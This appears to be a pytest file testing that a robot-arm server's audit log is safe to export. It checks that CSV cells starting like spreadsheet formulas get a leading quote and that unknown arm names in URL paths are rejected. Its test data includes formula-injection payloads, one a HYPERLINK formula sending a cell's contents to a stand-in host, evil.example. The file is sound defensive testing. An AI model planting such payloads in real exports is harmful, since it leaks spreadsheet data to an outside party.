"""Issue 22.10: the audit log cannot be turned against whoever reads it. The CSV export quotes
every cell a spreadsheet would run as a formula (OWASP: a leading `'`), and an arm name in a
path that is not one of the server's arms is not recorded as an arm."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest

from app.store import AUDIT_COLUMNS
from app.web.routes.audit import FORMULA_START, csv_cell
from tests.conftest import make_settings, running_client

EVIL = ['=HYPERLINK("https:\\evil.example?"&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3"]


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_formula_cell_is_quoted(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), ("alice", "alice"), (200, "200"), (1.5, "1.5"), ("/api/v1/x", "/api/v1/x"),
    ("a=b", "a=b"), ("", "")])
def test_other_cells_are_as_they_were(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


async def test_an_arm_name_that_is_no_arm_is_not_recorded_as_one_and_the_csv_is_inert() -> None:
    async with running_client(make_settings()) as (_, c):
        for name in EVIL:
            r = await c.post(f"/api/v1/arms/{quote(name, safe='')}/stop")
            assert r.status_code == 404 and r.json()["code"] == "unknown_arm"
            r = await c.put(f"/api/v1/arms/{quote(name, safe='')}/safety", json={})
            assert r.status_code == 404
        r = await c.post("/api/v1/arms/rbe3001/estop", content=b"-1",  # summary "-1"
                         headers={"content-type": "application/json"})
        assert r.status_code == 200, r.text
        r = await c.post("/api/v1/arms/angler/stop")
        assert r.status_code == 200
        rows = (await c.get("/api/v1/audit")).json()
        assert {r["arm"] for r in rows} == {None, "rbe3001", "angler"}
        evil = [r for r in rows if "arms/rbe3001" not in r["route"]
                and "arms/angler" not in r["route"]]
        assert evil and all(r["arm"] is None for r in evil)
        assert any(r["summary"] == "-1" for r in rows)
        text = (await c.get("/api/v1/audit", headers={"Accept": "text/csv"})).text
        table = list(csv.reader(io.StringIO(text)))
        assert tuple(table[0]) == AUDIT_COLUMNS and len(table) == len(rows) + 1
        cells = [cell for row in table for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
        assert "'-1" in cells  # quoted, not dropped
        # every record as JSON, and every one in the CSV, the same apart from the quote
        for row, rec in zip(table[1:], rows, strict=True):
            for col, cell in zip(AUDIT_COLUMNS, row, strict=True):
                want = "" if rec[col] is None else str(rec[col])
                assert cell.removeprefix("'") == want or cell == want, (col, cell, want)
